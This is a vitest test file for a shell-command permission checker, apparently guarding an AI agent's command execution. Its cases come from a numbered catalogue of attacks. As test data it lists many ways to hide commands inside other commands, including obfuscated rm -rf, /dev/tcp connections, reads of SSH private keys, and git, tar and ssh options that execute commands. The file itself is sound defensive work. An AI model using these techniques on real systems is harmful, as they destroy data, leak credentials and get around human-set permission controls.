// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell expansions

import { describe, expect, it } from 'vitest'
import { PatternError } from '../../../src/authority/pattern-error.js'
import { analyzeCommand } from '../../../src/authority/shell/analyze-command.js'
import {
  compileCommandPattern,
  patternDenies,
  patternWarnings,
} from '../../../src/authority/shell/command-pattern.js'
import { policy, sharedDecide } from './policy.js'
import { reasons, unitNames } from './seen.js'

const decide = sharedDecide()

/** The doubt about a text that is too large for the parser, whose time grows with the square of the length. */
const notParsed = /^the command (is longer than \d+ bytes|nests more than \d+ levels deep)$/

/** [number, command, decisions that are right]. The numbers are those of the catalogue of attacks. */
type Case = readonly [number: string, command: string, right: string]

const PATTERNS: readonly Case[] = [
  ['SEC-037', 'rm -rf /tmp/x', 'deny'],
  ['SEC-037', 'rm -rf a/b', 'deny'],
  ['SEC-039', 'npm run build', 'allow'],
  ['SEC-039', 'npm run build\nrm x', 'ask'],
  ['SEC-039', 'npm run build;rm x', 'ask'],
  ['SEC-039', 'npm run build && rm x', 'ask'],
  ['SEC-039', 'npm run build $(rm x)', 'ask'],
  ['SEC-039', 'npm run build > ~/.x', 'ask deny'],
  ['SEC-040', 'npm run build-and-publish', 'allow'],
]

/** Each contains `rm`, or hides that it does: asked about or denied, never allowed. */
const STRUCTURE: readonly Case[] = [
  ['SEC-049', 'git log; rm x', 'rm'],
  ['SEC-050', 'git log && rm x', 'rm'],
  ['SEC-051', 'false || rm x', 'rm'],
  ['SEC-052', 'cat a | sh', 'sh'],
  ['SEC-053', 'cat a |& tee b', 'tee'],
  ['SEC-054', 'ls & rm x', 'rm'],
  ['SEC-055', 'git log\nrm x', 'rm'],
  ['SEC-056', 'git log\r\nrm x\r\n', 'rm'],
  ['SEC-057', 'echo $(rm x)', 'rm'],
  ['SEC-058', 'echo `rm x`', 'rm'],
  ['SEC-059', 'echo "a $(rm x) b"', 'rm'],
  ['SEC-059', 'echo "a `rm x` b"', 'rm'],
  ['SEC-060', 'git commit -m "fix `rm x` now"', 'rm'],
  ['SEC-062', 'echo $(echo $(rm x))', 'rm'],
  ['SEC-063', 'echo `echo \\`rm x\\``', 'rm'],
  ['SEC-063', 'echo `echo \\`echo \\\\\\`rm x\\\\\\`\\``', 'rm'],
  ['SEC-064', 'diff <(rm x) b', 'rm'],
  ['SEC-065', 'tee >(sh)', 'sh'],
  ['SEC-066', 'cat <<E\n$(rm x)\nE', 'rm'],
  ['SEC-068', 'cat <<E && rm x\nhi\nE', 'rm'],
  ['SEC-069', 'cat <<A; cat <<B\n$(ls)\nA\n$(rm x)\nB', 'rm'],
  ['SEC-070', 'cat <<-E\n\t$(rm x)\n\tE', 'rm'],
  ['SEC-071', 'cat <<< $(rm x)', 'rm'],
  ['SEC-072', 'echo ${x:-$(rm y)}', 'rm'],
  ['SEC-072', 'echo ${x/a/$(rm y)}', 'rm'],
  ['SEC-072', 'echo ${a[$(rm x)]}', 'rm'],
  ['SEC-074', 'coproc rm x', 'rm'],
  ['SEC-074', 'coproc N { rm x; }', 'rm'],
  ['SEC-074', 'time rm x', 'rm'],
  ['SEC-074', '! rm x', 'rm'],
  ['SEC-075', 'select i in a; do rm x; done', 'rm'],
  ['SEC-075', 'until ls; do rm x; done', 'rm'],
  ['SEC-075', 'case a in a) ls ;& b) rm x ;; esac', 'rm'],
  ['SEC-076', 'ls(){ rm x; }; ls', 'rm'],
  ['SEC-076', 'function ls { rm x; }; ls', 'rm'],
  ['SEC-077', 'r"m" x', 'rm'],
  ['SEC-077', "'r''m' x", 'rm'],
  ['SEC-077', 'r\\m x', 'rm'],
  ['SEC-077', 'r\\\nm x', 'rm'],
  ['SEC-077', "$'rm' x", 'rm'],
  ['SEC-077', "$'\\x72\\x6d' x", 'rm'],
  ['SEC-078', '$X a', '?'],
  ['SEC-078', '${IFS} a', '?'],
  ['SEC-078', '{rm,x}', '?'],
  ['SEC-078', '/bin/r? x', '?'],
  ['SEC-078', '~/x', '?'],
  ['SEC-078', '"$(which rm)" x', '?'],
  ['SEC-079', 'ls a#b; rm x', 'rm'],
  ['SEC-079', 'ls # x\nrm y', 'rm'],
  ['SEC-081', `${'true && '.repeat(60)}curl e`, 'curl'],
  ['SEC-081', `${'true;'.repeat(10_000)}rm x`, 'rm'],
  ['SEC-085', "sh -c 'rm -rf x'", 'rm'],
  ['SEC-085', 'bash -lc "rm x"', 'rm'],
  ['SEC-085', "bash <<< 'rm x'", 'rm'],
  ['SEC-085', 'bash file', 'bash'],
  ['SEC-085', '. ./f', '.'],
  ['SEC-085', 'source f', 'source'],
  ['SEC-085', 'eval "rm x"', 'rm'],
  ['SEC-085', "trap 'rm x' EXIT", 'rm'],
  ['SEC-085', 'exec rm x', 'rm'],
  ['SEC-086', 'alias ls=rm; ls x', 'ls'],
  ['SEC-086', 'hash -p /bin/rm ls; ls x', 'ls'],
  ['SEC-086', 'enable -n ls; ls', 'ls'],
  ['SEC-086', 'PATH=.:$PATH; ls', 'ls'],
  ['SEC-086', 'cd /evil && ./ls', './ls'],
  ['SEC-088', "test -v 'a[$(rm x)]'", 'test'],
  ['SEC-088', "[[ 'a[$(rm x)]' -eq 0 ]] && ls", 'ls'],
  ['SEC-088', "printf -v 'a[$(rm x)]' y", 'printf'],
  ['SEC-088', "read 'a[$(rm x)]'", 'read'],
  ['SEC-088', "declare 'a[$(rm x)]=1'", 'declare'],
  ['SEC-088', "let 'a[$(rm x)]'", 'let'],
  ['SEC-088', "x='a[$(rm)]'; echo $((x))", 'echo'],
  ['SEC-088', "x='$(rm x)'; echo ${x@P}", 'echo'],
  ['SEC-088', "PS4='$(rm x)'; set -x; ls", 'ls'],
  ['SEC-088', "mapfile -C 'rm x' -c 1 a", 'mapfile'],
  ['SEC-088', "compgen -W '$(rm x)'", 'compgen'],
  ['SEC-088', "compgen -C 'rm x'", 'compgen'],
]

/** The name of the command is allowed with `name *`; its arguments must still lead to a question. */
const ARGUMENTS: readonly (readonly [number: string, command: string])[] = [
  ['SEC-089', "sed 'w f' a"],
  ['SEC-089', "sed -n '1e cmd' a"],
  ['SEC-089', "sed 's/a/cmd/e' a"],
  ['SEC-089', 'sed -i s/a/b/ f'],
  ['SEC-089', 'sed --in-pl s/a/b/ f'],
  ['SEC-090', 'awk \'BEGIN{system("x")}\''],
  ['SEC-090', 'awk \'{print > "f"}\''],
  ['SEC-090', 'awk \'{print | "cmd"}\''],
  ...['-exec x ;', '-execdir x ;', '-ok x ;', '-delete', '-fprint f', '-fprintf f %p', '-fls f'].map(
    (action) => ['SEC-091', `find . ${action.replace(';', '\\;')}`] as const,
  ),
  ['SEC-092', 'sort -o f a'],
  ['SEC-092', 'sort --output=f a'],
  ['SEC-092', 'sort --outp=f a'],
  ['SEC-092', 'sort --compress-program=x -S 1 a'],
  ['SEC-093', 'uniq in out'],
  ['SEC-093', 'xxd -r in out'],
  ['SEC-093', 'split a'],
  ['SEC-093', 'csplit a 1'],
  ['SEC-093', 'shuf -o f a'],
  ['SEC-093', 'iconv -o f a'],
  ['SEC-093', 'dd of=f'],
  ['SEC-093', 'tee f'],
  ['SEC-093', 'openssl rand -out f 8'],
  ['SEC-095', "git -c alias.x='!cmd' x"],
  ['SEC-095', 'git -c core.fsmonitor=cmd status'],
  ['SEC-095', 'git -c core.sshCommand=cmd ls-remote'],
  ['SEC-095', 'git -c core.pager=cmd log'],
  ['SEC-096', "git grep -O'cmd' x"],
  ['SEC-096', "git ls-remote --upload-pack='cmd' ."],
  ['SEC-096', 'git bisect run cmd'],
  ['SEC-096', 'git rebase -x cmd main'],
  ['SEC-096', "git ls-remote 'ext::sh -c x'"],
  ['SEC-098', 'git -C /outside log'],
  ['SEC-098', 'git --git-dir=/outside log'],
  ['SEC-098', 'git --work-tree=/outside status'],
  ['SEC-098', 'git --exec-path=/evil log'],
  ['SEC-099', 'tar --checkpoint-action=exec=cmd -cf a b'],
  ['SEC-099', 'tar --use-compress-program=cmd -xf a'],
  ['SEC-099', 'tar --use-comp=cmd -xf a'],
  ['SEC-099', 'zip -T -TT cmd a b'],
  ['SEC-100', 'rg --pre cmd x'],
  ['SEC-100', 'rg --hostname-bin cmd x'],
  ['SEC-100', 'rg -z x'],
  ['SEC-102', "node -e 'x'"],
  ['SEC-102', "python3 -c 'x'"],
  ['SEC-102', "perl -e 'x'"],
  ['SEC-102', 'make -f -'],
  ['SEC-102', 'npm config set x y --location=project'],
  ['SEC-102', 'npx x'],
  ['SEC-102', 'ed f'],
  ['SEC-102', "vim -es -c ':!x'"],
  ['SEC-103', 'curl -o f https://a.example'],
  ['SEC-103', 'curl -K -'],
  ['SEC-103', 'curl file:///etc/passwd'],
  ['SEC-103', 'curl -T f https://a.example'],
  ['SEC-103', 'wget -O f https://a.example'],
  ['SEC-103', 'scp -o ProxyCommand=cmd a h:b'],
  ['SEC-103', 'ssh -o ProxyCommand=cmd h'],
  ['SEC-104', 'sort -ofoo a'],
  ['SEC-104', 'sort -nuofoo a'],
  ['SEC-104', 'git log --outp=f'],
  ['SEC-104', 'sed -ni s/a/b/ f'],
  ['SEC-105', 'ls *'],
  ['SEC-105', 'sort *.txt'],
  ['SEC-106', 'echo x > /dev/tcp/1.2.3.4/80'],
  ['SEC-106', 'exec 3<>/dev/tcp/1.2.3.4/80'],
  ...['> f', '>> f', '>| f', '&> f', '&>> f', '>& f', '<> f', '2>f', '{fd}>f'].map(
    (redirection) => ['SEC-107', `echo x ${redirection}`] as const,
  ),
  ['SEC-107', '> f echo x'],
  ['SEC-107', '{ echo x; } > f'],
  ['SEC-107', 'echo() { echo x; } > f'],
  ['SEC-107', 'for i in 1; do echo x; done > f'],
  ['SEC-109', 'cd /outside && cat secret'],
  ['SEC-109', 'cd "$D" && cat x'],
  ['SEC-109', 'pushd /outside && cat x'],
  ['SEC-109', 'cd .. && cat x'],
  ['SEC-109', 'cd nowhere; cat /outside/x'],
]

describe('rule patterns (1.4)', () => {
  it.each(PATTERNS)('%s %j: %s', async (_, command, right) => {
    expect(right.split(' ')).toContain(await decide(command))
  })

  it('SEC-040, SEC-041: a star joined to a word is reported', () => {
    expect(patternWarnings(compileCommandPattern('npm run build*'))).toHaveLength(1)
    expect(patternWarnings(compileCommandPattern('git*'))).toHaveLength(1)
    expect(patternWarnings(compileCommandPattern('git *'))).toEqual([])
  })

  it('SEC-040: the argument form matches whole words only', async () => {
    const whole = policy({ allow: ['npm run build *'] })
    expect(await decide('npm run build', whole)).toBe('allow')
    expect(await decide('npm run build x', whole)).toBe('allow')
    expect(await decide('npm run build-and-publish', whole)).toBe('ask')
  })

  it.each([
    ['SEC-041', 'git-evil'],
    ['SEC-041', 'gitx a b'],
  ])('%s a joined star only extends the name: %s', async (_, command) => {
    expect(await decide(command, policy({ allow: ['git*'] }))).toBe('allow')
    expect(await decide(command, policy({ allow: ['git *'] }))).toBe('ask')
  })

  it.each(['', '   ', 'git "log', "git 'log", 'git \\', 'git log; rm', 'a | b', 'a > b', 'a\nb'])(
    'SEC-042: %j is not a pattern',
    (text) => expect(() => compileCommandPattern(text)).toThrow(PatternError),
  )

  it('SEC-044: a pattern of 10 KB with 5,000 stars is matched in under 50 ms', () => {
    const unit = (text: string) => analyzeCommand(text.slice(0, 8000)).units[0] ?? expect.fail('no unit')
    for (const [pattern, command] of [
      ['*a'.repeat(5000), `echo ${'a'.repeat(7000)}b`],
      [`echo ${'*a'.repeat(5000)}b`, `echo ${'a'.repeat(7000)}`],
      ['* '.repeat(5000), 'a '.repeat(4000)],
      [`${'a* '.repeat(3000)}b`, 'aa '.repeat(2600)],
    ] as const) {
      const compiled = compileCommandPattern(pattern)
      const subject = unit(command)
      patternDenies(compiled, subject)
    }
  })
})

describe('shell structure (1.5)', () => {
  it.each(STRUCTURE)('%s %j shows %s and is not allowed', async (_, command, shown) => {
    expect(unitNames(analyzeCommand(command)).split(' ')).toContain(shown)
    expect(await decide(command)).not.toBe('allow')
  })

  it.each([
    "echo '$(rm x)'",
    'echo "\\$(rm x)"',
    "cat <<'E'\n$(rm x)\nE",
    'cat <<\\E\n$(rm x)\nE',
    'ls # ; rm x',
  ])('SEC-061, SEC-067, SEC-079: %j is not a false positive', async (command) =>
    expect(await decide(command)).toBe('allow'),
  )

  it.each(['$(', '(', '{a,', '`', '"$(', '$((', '$[', '${a:-', '<(', '[['])(
    'SEC-082: a very large input of %j is asked about, and not parsed',
    async (bomb) => {
      for (const text of [bomb.repeat(100_000), `echo ${bomb.repeat(9000)}`]) {
        expect(await decide(text, policy({ allow: ['*'] }))).toBe('ask')
        expect(analyzeCommand(text).doubts).toEqual([expect.stringMatching(notParsed)])
      }
      expect(await decide(`echo ${bomb.repeat(1000)}`, policy({ allow: ['*'] }))).toBe('ask')
    },
  )

  it('SEC-082: a word of 1 MB is asked about, and not parsed', async () => {
    const word = 'a'.repeat(1_000_000)
    expect(await decide(word, policy({ allow: ['*'] }))).toBe('ask')
    expect(analyzeCommand(word).doubts).toEqual([expect.stringMatching(notParsed)])
  })

  it.each([
    ['long', 'cat x.txt;'.repeat(1000)],
    ['deep', `${'echo $('.repeat(40)}cat x.txt${')'.repeat(40)}`],
  ])('SEC-082: a command that bash would run is not parsed if it is too %s', async (_, text) => {
    const { doubts, paths } = analyzeCommand(text)
    expect(doubts).toEqual([expect.stringMatching(notParsed)])
    // The parser would have found the file.
    expect(paths).toEqual([])
    expect(analyzeCommand('cat x.txt;'.repeat(3)).paths).not.toEqual([])
    expect(await decide(text, policy({ allow: ['*'] }))).toBe('ask')
  })

  it.each([
    '\u00a0',
    '\u3000',
    '\u200b',
    '\u202e',
    '\u2066',
    '\u001b',
    '\v',
    '\f',
    '\r',
    '\u2028',
    '\u00ad',
    '\u007f',
  ])('SEC-083: %j is asked about', async (char) => {
    for (const text of [`ls${char}a`, `ls a${char}`, `ls '${char}'`]) expect(await decide(text)).toBe('ask')
  })

  it.each(['ls\0', '\0', 'ls \ud800'])('SEC-084: %j is an error', async (text) =>
    expect(await decide(text)).toBe('error'),
  )

  it.each([
    'rm -fr x',
    'rm -r -f x',
    '/bin/rm -rf x',
    'env rm -rf x',
    'r"m" -rf x',
    'rm --recursive --force x',
    'RM -rf x',
    'rm --rec --fo x',
  ])('the deny of rm -rf also denies %j', async (command) => expect(await decide(command)).toBe('deny'))

  it.each([
    "sh -c 'rm -rf x'",
    'echo $(rm -rf x)',
    'ls; $(echo `rm -rf x`)',
    'sudo rm -rf x',
    'xargs rm -rf',
    'find . -exec rm -rf {} +',
  ])('the deny of rm -rf applies inside %j', async (command) => expect(await decide(command)).toBe('deny'))

  it.each([
    `${'x;'.repeat(9000)} rm -rf a`,
    'echo "unclosed; rm -rf a',
    'if; then rm -rf a',
    'ls\rrm -rf a',
    'echo $( rm -rf a',
    'cat <(ls)# ; rm -rf a',
    '< <(ls)a rm -rf a',
    "'rm' -rf a; echo \"",
    'echo "x" ); r\'m\' -r"f" a',
  ])('SEC-081: a deny is still matched against text that is not parsed', async (command) =>
    expect(await decide(command)).toBe('deny'),
  )
})

describe('arguments (1.6)', () => {
  it.each(ARGUMENTS)('%s %j is not allowed although its name is', async (_, command) => {
    const names = unitNames(analyzeCommand(command)).split(' ')
    expect(await decide(command, policy({ allow: names.map((name) => `${name} *`) }))).not.toBe('allow')
  })

  it.each([
    'cat ~/.ssh/id_rsa',
    "grep '' ~/.ssh/*",
    'head .ssh/x',
    'base64 ~/.ssh/x',
    'cp ~/.ssh/x a',
    'tar c ~/.ssh/x',
    '< ~/.ssh/id_rsa cat',
  ])('SEC-110: a denied read applies to %j', async (command) => expect(await decide(command)).toBe('deny'))
})

describe('environment (1.7)', () => {
  it.each(
    'LD_PRELOAD BASH_ENV ENV NODE_OPTIONS GIT_SSH_COMMAND GIT_EXTERNAL_DIFF PAGER EDITOR PYTHONSTARTUP PERL5OPT IFS PATH PS4 PROMPT_COMMAND'.split(
      ' ',
    ),
  )('SEC-113: %s= is asked about, however it is set', async (name) => {
    for (const text of [
      `${name}=x ls`,
      `${name}=x; ls`,
      `env ${name}=x ls`,
      `export ${name}=x; ls`,
      `for ${name} in x; do ls; done`,
    ]) {
      expect(await decide(text, policy({ allow: ['*'] }))).toBe('ask')
    }
  })

  it.each(['CI=1 ls', 'NO_COLOR=1 LANG=C ls', 'NODE_ENV=test ls', 'env CI=1 ls'])(
    'SEC-113: %s is not asked about',
    async (text) => {
      expect(reasons(analyzeCommand(text))).toEqual([])
      expect(await decide(text)).toBe('allow')
    },
  )
})
